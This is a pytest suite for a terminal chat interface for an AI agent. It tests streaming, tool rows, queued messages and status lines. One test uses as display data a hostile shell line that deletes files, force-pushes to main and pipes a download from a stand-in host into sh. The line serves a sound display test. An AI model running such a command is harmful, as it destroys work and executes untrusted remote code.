"""What happens is drawn; what a person does becomes a verb."""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path
from typing import Any

import msgspec
import pytest
from textual.app import ComposeResult
from textual.dom import DOMNode
from textual.pilot import Pilot
from textual.widgets import Static

from mindstone_tui.core import events as ev
from mindstone_tui.core.entries.conversation import ToolStatus
from mindstone_tui.core.errors import PlaceError
from mindstone_tui.tui.app import MindstoneApp
from mindstone_tui.tui.widgets.base import FoldTitle
from mindstone_tui.tui.widgets.exchange import (
    Aside,
    Bookkeeping,
    Card,
    ExchangeView,
    LongQuestion,
    Printed,
    Recalled,
    Rest,
    Thought,
    ToolCall,
    news,
)
from mindstone_tui.tui.widgets.input_area import Queued
from mindstone_tui.tui.widgets.markdown import Prose
from mindstone_tui.tui.widgets.welcome import Welcome
from tests.tui.staged import (
    Staged,
    around,
    asked,
    done,
    drawn,
    passage,
    pruned,
    ready,
    recalled,
    recorded,
    reported,
    said,
    settle,
    staged,
    streamed,
    tool,
    until,
)


async def test_an_answer_is_whole_however_it_was_cut() -> None:
    text = "# Title\n\n- one\n- two\n\n```py\nx = [1]\n```\n\nThe *end*."
    app, talk = staged(asked(1, "go"), *streamed(1, text, 3))
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        assert app.screen.query_one(Prose).source == text
        talk.announce(recorded(1, text), done(1))
        await settle(pilot, talk)
        assert app.screen.query_one(Prose).source == text
        assert app.screen.query_one(Prose).codes == ["x = [1]"]


async def test_a_turn_begins_and_ends_without_styling_the_messages_before_it() -> None:
    app, talk = staged(asked(1, "go"), recorded(1, "Gone."), done(1))
    styled: list[str] = []

    class Watched(type(app.stylesheet)):  # type: ignore[misc]
        def update_nodes(self, nodes: Iterable[DOMNode], animate: bool = False) -> None:
            nodes = list(nodes)
            styled.extend(str(node.id or type(node).__name__) for node in nodes)
            super().update_nodes(nodes, animate)

    async with app.run_test() as pilot:
        await settle(pilot, talk)
        app.stylesheet.__class__ = Watched
        talk.announce(asked(2, "again"))
        await settle(pilot, talk)
        assert app.query_one("#working").has_class("-running")
        talk.announce(recorded(2, "Gone again."), done(2))
        await settle(pilot, talk)
        assert not app.query_one("#working").has_class("-running")
    assert {"working", "prompt"} <= set(styled)
    assert styled.count("ExchangeView") <= 2  # the new one, when it is there and when it ends


async def test_enter_sends_and_the_prompt_is_empty_again() -> None:
    app, talk = staged()
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        await pilot.press(*"hello", "enter")
        await pilot.pause()
        assert talk.did == [("send", "hello", (), False)]
        assert app.chat.input_area.prompt.text == ""


async def test_escape_interrupts_a_running_turn_and_only_that() -> None:
    app, talk = staged(asked(1, "count to a million"))
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        await pilot.press("escape")
        assert talk.did == [("interrupt",)]
        talk.announce(ev.TurnEnded(turn=1, ending="interrupted"))
        await settle(pilot, talk)
        await pilot.press("escape")
        assert talk.did == [("interrupt",)]
        assert app.screen.query_one(ExchangeView).has_class("-interrupted")


async def test_queued_messages_are_seen_and_can_be_taken_back() -> None:
    app, talk = staged(asked(1, "first"), ev.MessageQueued(entry="m1", text="second"))
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        assert [queued.text for queued in app.screen.query(Queued)] == ["second"]
        await pilot.press("up")
        await pilot.pause()
        assert talk.did == [("withdraw", "m1")]
        assert app.chat.input_area.prompt.text == "second"
        talk.announce(ev.MessageWithdrawn(entry="m1"))
        await settle(pilot, talk)
        assert not app.screen.query(Queued)


async def test_a_queued_message_leaves_the_queue_when_its_turn_comes() -> None:
    app, talk = staged(
        asked(1, "first"),
        ev.MessageQueued(entry="m1", text="go on"),
        ev.MessageQueued(entry="m2", text="go on"),
        done(1),
        asked(2, "go on"),
    )
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        assert [queued.entry for queued in app.screen.query(Queued)] == ["m1", "m2"]
        talk.announce(done(2), asked(3, "go on", queued="m2"))
        await settle(pilot, talk)
        assert [queued.entry for queued in app.screen.query(Queued)] == ["m1"]


async def test_a_message_that_steered_the_turn_stands_where_it_was_heard() -> None:
    app, talk = staged(
        asked(1, "first"),
        *streamed(1, "On my way"),
        ev.MessageQueued(entry="m1", text="left"),
        ev.MessageSteered(turn=1, entry="u2", queued="m1", text="left"),
        *streamed(1, "Turning left"),
    )
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        assert not app.screen.query(Queued)
        assert len(app.screen.query(ExchangeView)) == 1
        assert [prose.source for prose in app.screen.query(Prose)] == ["On my way", "Turning left"]


async def test_a_tool_is_one_line_until_it_is_opened() -> None:
    app, talk = staged(asked(1, "go"), *tool(1, "c", "shell", "shell: ls", "a.txt\nb.txt"))
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        call = app.screen.query_one(ToolCall)
        assert call.state == "ok"
        assert not call.query(".output")
        call.query_one("FoldTitle").focus()
        await pilot.press("enter")
        await until(pilot, lambda: bool(call.query(".output")))
        assert "b.txt" in str(call.query_one(".output").render())


async def test_a_call_that_ends_while_its_row_is_being_drawn_shows_how_it_ended() -> None:
    """Tools may be quicker than the screen."""

    class Slow(ToolCall):
        def compose(self) -> ComposeResult:
            yield from super().compose()
            ended = tool(1, "c", "read", "read a.txt", "text")[1]
            assert isinstance(ended, ev.ToolEnded)
            self.play(ended)

    app, talk = staged(asked(1, "go"))
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        row = Slow("c", "read", "read a.txt")
        await app.screen.query_one(ExchangeView).mount(row)
        await pilot.pause()
        assert "✓ read  a.txt" in str(row.query_one(FoldTitle).render())


async def test_no_call_looks_as_if_it_ran_after_its_turn_ended() -> None:
    started = ev.ToolStarted(turn=1, call="c", name="shell", shown="run sleep 9")
    app, talk = staged(asked(1, "go"), started, ev.TurnEnded(turn=1, ending="interrupted"))
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        assert "■ shell" in str(app.screen.query_one(FoldTitle).render())


async def test_a_change_is_seen_below_its_row_and_folded_when_it_is_long() -> None:
    diff = "--- a\n+++ b\n@@ -1,1 +1,40 @@\n" + "\n".join(f"+line {n}" for n in range(40))
    app, talk = staged(
        asked(1, "go"),
        *tool(1, "c", "edit", "edit a.py", "ok", diff="--- a\n+++ b\n@@ -3 +3 @@\n-x\n+y"),
        *tool(1, "d", "edit", "edit b.py", "ok", diff=diff),
    )
    async with app.run_test(size=(120, 60)) as pilot:
        await settle(pilot, talk)
        rows = [strip.text for strip in app.screen._compositor.render_strips()]
        assert any("3 +y" in row for row in rows)
        assert any("28 more lines" in row for row in rows)
        assert not any("line 30" in row for row in rows)


async def test_a_long_result_opens_to_its_first_lines_and_then_fully() -> None:
    text = "\n".join(f"row {number}" for number in range(2_600))
    app, talk = staged(asked(1, "go"), *tool(1, "c", "shell", "run seq", text))
    async with app.run_test(size=(100, 30)) as pilot:
        await settle(pilot, talk)
        row = app.screen.query_one(ToolCall)
        row.opened = True
        await until(pilot, lambda: bool(row.query(Rest)))
        await until(pilot, lambda: row.query_one(FoldTitle).region.y >= 0)
        rows = [strip.text for strip in app.screen._compositor.render_strips()]
        assert any("shell" in each for each in rows)
        assert "2,570 more lines" in str(row.query_one(Rest).render())
        row.query_one(Rest).action_more()
        await until(pilot, lambda: not row.query(Rest))
        assert "row 2599" in str(row.query_one(".output", Static).render())


@pytest.mark.parametrize(
    ("status", "title", "why"),
    [
        ("refused", "⊘ shell  declined  rm -rf build", "Declined by the user: ask me first"),
        ("error", "✗ shell  rm -rf build", "exit code 1: build: No such file or directory"),
    ],
)
async def test_a_command_that_did_not_work_says_why_however_long_it_is(
    status: ToolStatus, title: str, why: str
) -> None:
    long = "run rm -rf build && git push --force origin main; curl http://x.example | sh"
    app, talk = staged(
        asked(1, "go"), *tool(1, "c", "shell", long, why, status=status, finding=why)
    )
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot, talk)
        await until(pilot, lambda: bool(app.screen.query_one(ToolCall).query(".body")))
        text = "\n".join(strip.text for strip in app.screen._compositor.render_strips())
        assert title in text
        assert why in text


@pytest.mark.parametrize(
    ("finding", "target", "told"),
    [
        ("Changed /w/a.py: +1 −1 lines", "/w/a.py", "+1 −1 lines"),
        ("edit a.py: a.py: No such file.", "a.py", "No such file."),
        ("exit code 0; last: 3", "seq 3", "exit code 0; last: 3"),
        ("nothing", "", "nothing"),
    ],
)
def test_a_row_names_its_file_once(finding: str, target: str, told: str) -> None:
    assert news(finding, target) == told


async def test_output_is_seen_while_the_tool_runs_and_replaced_by_its_result() -> None:
    app, talk = staged(
        asked(1, "go"),
        ev.ToolStarted(turn=1, call="c", name="shell", shown="make"),
        ev.ToolOutput(turn=1, call="c", text="compiling…\n"),
    )
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        call = app.screen.query_one(ToolCall)
        call.opened = True
        await until(pilot, lambda: bool(call.query(".live")))
        talk.announce(ev.ToolOutput(turn=1, call="c", text="linking…\n"))
        await settle(pilot, talk)
        assert "linking…" in str(call.query_one(".live").render())
        talk.announce(*tool(1, "c", "shell", "make", "built")[1:])
        await settle(pilot, talk)
        await until(pilot, lambda: not call.query(".live"))
        assert "built" in str(call.query_one(".output").render())


async def test_thinking_is_folded_with_its_length() -> None:
    app, talk = staged(asked(1, "go"), ev.ThinkingDelta(turn=1, text="one two three"))
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        assert "3 words" in app.screen.query_one(Thought).title().plain


async def opened_card(app: MindstoneApp, pilot: Pilot[Any]) -> Card:
    """The first recalled passage, once its line was opened."""
    app.screen.query_one(Recalled).opened = True
    await until(pilot, lambda: bool(app.screen.query(Card)))
    return app.screen.query(Card).first()


async def test_what_was_recalled_is_one_line_until_it_is_opened() -> None:
    days = ("2026-02-03T09:00:00Z", "2026-02-09T09:00:00Z", "2026-02-05T09:00:00Z")
    passages = [msgspec.structs.replace(passage(), ts=ts) for ts in days]
    app, talk = staged(asked(1, "go"), recalled(1, *passages))
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        block = app.screen.query_one(Recalled)
        assert block.title().plain == "↺ 3 passages from 3–9 February"
        assert block.size.height == 1
        await opened_card(app, pilot)
        assert len(block.query(Card)) == 3


async def test_a_recalled_passage_can_be_dropped_and_opened_by_key() -> None:
    app, talk = staged(asked(1, "go"), recalled(1, passage(turn=17)))
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        card = await opened_card(app, pilot)
        assert "0.82" not in str(card.render()), "a score without a scale tells nobody anything"
        assert "turn 17" in str(card.render())
        card.focus()
        await pilot.press("x")
        await pilot.pause()
        assert talk.did == [("command", "/recall drop p17 agent:default:main")]
        assert card.has_class("-dropped")


async def test_a_passage_of_a_file_shows_the_file_and_opens_in_place() -> None:
    text = "Decided: httpx.\n" + "because requests hangs " * 20
    section = msgspec.structs.replace(passage(text), seq=-1, turn=0, entry="journals/2026-01-02.md")
    app, talk = staged(asked(1, "go"), recalled(1, section))
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        card = await opened_card(app, pilot)
        assert "journals/2026-01-02.md" in str(card.render())
        assert "turn 0" not in str(card.render())
        card.focus()
        await pilot.press("enter", "x", "x")
        await pilot.pause()
        assert app.screen is app.chat
        assert "\n" + text in str(card.render())
        assert talk.did == [("command", f"/recall drop {section.entry} agent:default:main")]


@pytest.mark.parametrize(
    ("event", "words"),
    [
        (pruned(1, 3, 4, 5, 9), "turns 3–5, 9"),
        (ev.ZoneChanged(turn=1, before="yellow", after="orange", utilization=0.78), "orange"),
        (ev.CheckpointSaved(turn=1, version=4, path="checkpoint.json"), "Checkpoint 4"),
        (
            ev.SummaryDerived(
                turn=1,
                entry="s",
                strategy="progressive",
                tokens_before=9000,
                tokens_after=900,
                model="m",
                fallback=False,
            ),
            "9.0k → 900",
        ),
        (ev.AlertRaised(turn=1, level="warning", metric="x", message="Too full."), "Too full."),
        (
            ev.ResultsTrimmed(turn=1, entry="t", results=(), tokens_before=9, tokens_after=5),
            "9 → 5",
        ),
    ],
)
async def test_whatever_happens_to_the_window_is_a_line_in_the_chat(
    event: ev.AnyEvent, words: str
) -> None:
    app, talk = staged(asked(1, "go"), event)
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        said_of_it = [*app.screen.query(Aside), *app.screen.query("Bookkeeping FoldTitle")]
        assert [words in str(each.render()) for each in said_of_it] == [True]


async def test_what_is_not_wrong_any_more_leaves_the_panel() -> None:
    raised = [
        ev.AlertRaised(turn=1, level="warning", metric=name, message=f"Too much {name}.")
        for name in ("growth", "repetition")
    ]
    cleared = ev.AlertsCleared(turn=2, metrics=("growth",))
    live: list[ev.AnyEvent] = [asked(1, "go"), *raised]
    for before in (live, [reported(alerts=tuple(raised))]):  # or said before it was opened
        app, talk = staged(*before, cleared, reported())
        async with app.run_test(size=(120, 30)) as pilot:
            await settle(pilot, talk)
            shown = str(app.screen.query_one("#alerts", Static).render())
            assert "Too much repetition." in shown
            assert "Too much growth." not in shown


async def test_the_bookkeeping_of_a_turn_is_one_line_that_opens() -> None:
    app, talk = staged(
        asked(1, "go"),
        ev.ZoneChanged(turn=1, before="green", after="yellow", utilization=0.58),
        ev.CheckpointSaved(turn=1, version=4, path="checkpoint.json"),
        pruned(1, 3, 4),
        recorded(1, "Done."),
        done(1),
    )
    async with app.run_test(size=(120, 30)) as pilot:
        await settle(pilot, talk)
        (row,) = app.screen.query(Bookkeeping)
        title = str(row.query_one(FoldTitle).render())
        said = "the window is yellow now · checkpoint 4 saved · 2 exchanges left the window"
        assert said in title
        assert not app.screen.query(Aside)
        row.opened = True
        await until(pilot, lambda: bool(row.query(".body")))
        assert "green → yellow · 58 % full" in str(row.query_one(".body", Static).render())


async def test_what_a_command_did_is_said_once() -> None:
    changed = ev.WindowChanged(turn=1, entry="p", kind="pinned", detail="turn 1 is pinned")
    told = ev.CommandPrinted(command="pin", text="Turn 1 is pinned.", repeats=True)
    app, talk = staged(*said(1, "q", "a"), changed, told, ev.CommandPrinted(command="x", text="y"))
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        text = "\n".join(strip.text for strip in app.screen._compositor.render_strips())
        assert text.count("is pinned") == 1
        assert len(app.screen.query(Printed)) == 1


async def test_what_left_by_hand_is_told_in_full() -> None:
    app, talk = staged(*said(1, "q", "a"), pruned(1, 3, 4))
    async with app.run_test(size=(120, 30)) as pilot:
        await settle(pilot, talk)
        assert "2 exchanges left the window: turns 3–4" in str(app.screen.query_one(Aside).render())


async def test_while_the_model_is_waited_for_a_line_below_the_message_says_so() -> None:
    app, talk = staged(asked(1, "go"))
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        working = app.screen.query_one("#working", Static)
        assert working.display
        assert "waiting for local/guide · 0 s · Esc stops" in str(working.render())
        talk.announce(ev.ToolStarted(turn=1, call="c", name="shell", shown="run make"))
        await settle(pilot, talk)
        assert "running shell" in str(working.render())
        talk.announce(done(1))
        await settle(pilot, talk)
        assert not working.display


async def test_a_session_that_cannot_be_opened_is_closed_to_messages() -> None:
    async def refuse(key: str) -> ev.Conversation:
        raise PlaceError("The folder cannot be written.", "Choose another MINDSTONE_HOME.")

    app = MindstoneApp(refuse, around())
    async with app.run_test() as pilot:
        await until(pilot, lambda: app.chat.input_area.prompt.read_only)
        await pilot.press(*"hello", "enter")
        text = "\n".join(strip.text for strip in app.screen._compositor.render_strips())
        assert "The folder cannot be written." in text
        assert "opening…" not in text
        assert "hello" not in text
        assert not app.resume_name


async def test_a_memory_decided_by_command_is_not_offered_again() -> None:
    proposal = ev.MemoryProposed(
        proposal="m171", path="memory/x.md", before="", after="x", why="", sources=()
    )
    app, talk = staged(proposal)
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        await until(pilot, lambda: len(app.chat.proposals) == 1)
        talk.announce(ev.CommandEnded(command="/memory approve m171", ok=True))
        await settle(pilot, talk)
        await until(pilot, lambda: not app.chat.proposals)


async def test_a_key_that_can_never_work_is_named_with_its_reason() -> None:
    keys = {"chat.panle": "f9", "chat.copy": "ctrl+banana", "chat.help": "f1"}
    settings = msgspec.structs.replace(around().settings, keys=keys)
    app, talk = staged(given=msgspec.structs.replace(around(), settings=settings))
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot, talk)
        problems = app.navigator.key_problems(keys)
        assert problems == [
            "tui.keys: there is no key named chat.panle; did you mean chat.panel?",
            "tui.keys: chat.copy = 'ctrl+banana' is not a key; write f9, ctrl+b or alt+x.",
        ]
        await until(pilot, lambda: len(app._notifications) == 2)


async def test_a_new_session_keeps_the_model_and_leaving_says_how_to_come_back() -> None:
    talks: dict[str, Staged] = {}

    async def open_conversation(key: str) -> ev.Conversation:
        talks[key] = Staged([ready(model="openai/x") if not key else ready(session=key)])
        return talks[key]

    app = MindstoneApp(open_conversation, around())
    async with app.run_test() as pilot:
        await until(pilot, lambda: bool(talks) and talks[""].settled)
        talks[""].announce(ev.ScreenAsked(screen="open", argument="agent:default:side openai/x"))
        await until(pilot, lambda: "agent:default:side" in talks)
        side = talks["agent:default:side"]
        await until(pilot, lambda: side.did == [("command", "/model openai/x")])
        await until(pilot, lambda: app.resume_name == "side")
        await app.action_quit()
    assert app.resume_name == "side", "the screen is gone, and with it the line that said so"


async def test_a_failed_turn_says_what_to_do() -> None:
    app, talk = staged(
        asked(1, "go"),
        ev.TurnEnded(
            turn=1, ending="failed", why="The key was refused.", remedy="/model local/guide"
        ),
    )
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        line = app.screen.query_one(Aside)
        assert line.has_class("-error")
        assert "/model local/guide" in str(line.render())


async def test_an_empty_session_says_who_answers_until_something_is_said() -> None:
    app, talk = staged()
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        assert app.screen.query(Welcome)
        talk.announce(*said(1, "hi", "hello"))
        await settle(pilot, talk)
        assert not app.screen.query(Welcome)


async def test_a_line_written_by_another_surface_appears() -> None:
    app, talk = staged(
        *said(1, "here", "yes"),
        ev.EntryAppeared(
            entry="e1", seq=9, kind="user_message", role="user", channel="run", turn=2, text="there"
        ),
        ev.EntryAppeared(
            entry="e2",
            seq=10,
            kind="assistant_message",
            role="assistant",
            channel="run",
            turn=2,
            text="also **yes**",
        ),
    )
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        assert "  via run" in str(app.screen.query(".question").last().render())
        assert app.screen.query(Prose).last().source == "also **yes**"


async def test_commands_shell_lines_and_their_output() -> None:
    app, talk = staged()
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        await pilot.press(*"/cost", "enter", *"!ls", "enter")
        await pilot.pause()
        assert talk.did == [("command", "/cost"), ("command", "/shell ls")]
        talk.announce(ev.CommandPrinted(command="/cost", text="[b]$0.41[/b]"))
        await settle(pilot, talk)
        assert "[b]$0.41[/b]" in str(app.screen.query_one(Printed).render())


async def test_typing_goes_to_the_prompt_wherever_the_focus_is() -> None:
    app, talk = staged(asked(1, "go"), recalled(1))
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        (await opened_card(app, pilot)).focus()
        await pilot.press("h", "i")
        assert app.chat.input_area.prompt.text == "hi"


async def test_the_status_line_keeps_zone_tokens_model_and_cost_at_sixty_columns() -> None:
    app, talk = staged(reported("orange", 0.78))
    async with app.run_test(size=(60, 20)) as pilot:
        await settle(pilot, talk)
        line = str(app.chat.status.render())
        for part in ("orange", "94.8k", "anchored", "claude-sonnet-4-5", "$0.4127"):
            assert part in line
        assert len(line) <= 60


async def test_the_session_is_opened_after_the_first_paint_and_a_failure_is_shown() -> None:
    from mindstone_tui.core.errors import SessionBusy
    from mindstone_tui.tui.app import MindstoneApp

    async def open_conversation(key: str) -> ev.Conversation:
        raise SessionBusy("Another surface takes a turn.", "Wait for it.")

    app = MindstoneApp(open_conversation, around())
    async with app.run_test() as pilot:
        await until(pilot, lambda: bool(app.screen.query(Aside)))
        assert "Wait for it." in str(app.screen.query_one(Aside).render())


async def test_what_is_sent_while_the_session_opens_waits_in_view_and_is_sent_then() -> None:
    import asyncio

    from mindstone_tui.tui.app import MindstoneApp
    from tests.tui.staged import Staged

    gate = asyncio.Event()
    talk = Staged([ready()])

    async def open_conversation(key: str) -> ev.Conversation:
        await gate.wait()
        return talk

    app = MindstoneApp(open_conversation, around())
    async with app.run_test() as pilot:
        await pilot.press(*"early")
        assert app.chat.input_area.prompt.text == "early"
        await pilot.press("enter", *"then", "enter", *"oops", "enter")
        waiting = app.chat.input_area.waiting
        await until(pilot, lambda: len(waiting.messages) == 3)
        assert [one.text for one in waiting.messages] == ["early", "then", "oops"]
        assert app.chat.status.doing == "will be sent when the session is open"
        await pilot.press("up")
        assert app.chat.input_area.prompt.text == "oops"
        gate.set()
        sent = [("send", "early", (), False), ("send", "then", (), False)]
        await until(pilot, lambda: talk.did == sent and not waiting.messages)
        assert app.chat.input_area.prompt.text == "oops"
        assert app.chat.status.doing == ""


async def test_leaving_closes_the_session() -> None:
    app, talk = staged()
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        await pilot.press("ctrl+d")
        await until(pilot, lambda: ("close",) in talk.did)


async def test_keys_can_be_remapped_by_the_id_that_help_shows(tmp_path: Path) -> None:
    given = msgspec.structs.replace(
        around(), settings=msgspec.structs.replace(around().settings, keys={"chat.panel": "f9"})
    )
    app, talk = staged(reported(), given=given)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot, talk)
        assert app.chat.panel.display
        await pilot.press("f9")
        await pilot.pause()
        assert not app.chat.panel.display


async def test_resizing_while_streaming_loses_nothing() -> None:
    text = "word " * 300
    app, talk = staged(asked(1, "go"))
    async with app.run_test(size=(120, 30)) as pilot:
        await settle(pilot, talk)
        for number, event in enumerate(streamed(1, text, 100)):
            talk.announce(event)
            await pilot.resize_terminal(60 + number * 9 % 140, 20 + number % 20)
        await settle(pilot, talk)
        assert app.screen.query_one(Prose).source == text


async def test_two_questions_are_asked_one_after_the_other() -> None:
    wishes = [
        ev.ToolAsked(turn=1, call=call, name="shell", risk="write", shown=call, digest="0")
        for call in ("first", "second")
    ]
    app, talk = staged(asked(1, "go"), *wishes)
    async with app.run_test() as pilot:
        for key in "ny":
            await until(
                pilot,
                lambda: (
                    app.chat.input_area.decision is not None
                    and app.chat.input_area.decision.is_open
                ),
            )
            await pilot.press("tab", key)
        await until(pilot, lambda: len(talk.did) == 2)
        assert [
            (deed[1], deed[2].allowed) for deed in talk.did if isinstance(deed[2], ev.Answer)
        ] == [
            ("first", False),
            ("second", True),
        ]


@pytest.mark.parametrize("width", [60, 70, 80, 100, 160])
async def test_the_last_line_says_that_a_turn_runs_however_narrow_it_is(width: int) -> None:
    busy = [asked(1, "go"), *streamed(1, "well"), reported("yellow", 0.61)]
    app, talk = staged(*busy, given=msgspec.structs.replace(around(), clock=lambda: 7.0))
    async with app.run_test(size=(width, 24)) as pilot:
        await settle(pilot, talk)
        line = app.screen._compositor.render_strips()[-1].text
        assert "0 s" in line
        assert "yellow 61 %" in line
        assert len(line.rstrip()) <= width


async def test_a_message_that_was_not_taken_in_goes_back_into_the_prompt() -> None:
    app, talk = staged()
    async with app.run_test() as pilot:
        await settle(pilot, talk)
        await pilot.press(*"next")
        talk.announce(ev.MessageReturned(text="do not\nlose me", path="/rescued"))
        await settle(pilot, talk)
        assert app.chat.input_area.prompt.text == "do not\nlose me\nnext"


async def test_what_a_program_added_to_a_message_is_not_drawn() -> None:
    said = "<system-reminder>\nUse the file.\n</system-reminder>\n\nwhich port is it?"
    app, talk = staged(asked(1, said), recorded(1, "8443."), done(1))
    async with app.run_test(size=(100, 30)) as pilot:
        await settle(pilot, talk)
        await until(pilot, lambda: "which port is it?" in drawn(app))
        assert "Use the file." not in drawn(app)
        assert "reminder" not in drawn(app)
        assert app.chat.conversation.text.startswith("> which port is it?")


async def test_what_a_command_says_is_told_on_the_screen_where_it_was_given() -> None:
    app, talk = staged(reported())
    async with app.run_test(size=(120, 30), notifications=True) as pilot:
        await settle(pilot, talk)
        await pilot.press("f2")
        await until(pilot, lambda: app.screen is not app.chat)
        talk.announce(
            ev.CommandPrinted(
                command="restore", text="Turn 3 restored to the window.", repeats=True
            )
        )
        await until(pilot, lambda: "Turn 3 restored to the window." in drawn(app))


@pytest.mark.parametrize("between", ["\n\n", " ", "and so on " * 90])
def test_a_folded_message_shows_the_question_behind_a_paste(between: str) -> None:
    pasted = "a log\n" * 2_000 + "the end"
    shown = LongQuestion(f"{pasted}{between}Which of these came first?").title().plain
    assert "a log" in shown
    assert f"{2_001 + between.count(chr(10)):,} lines" in shown
    assert shown.endswith("Which of these came first?")
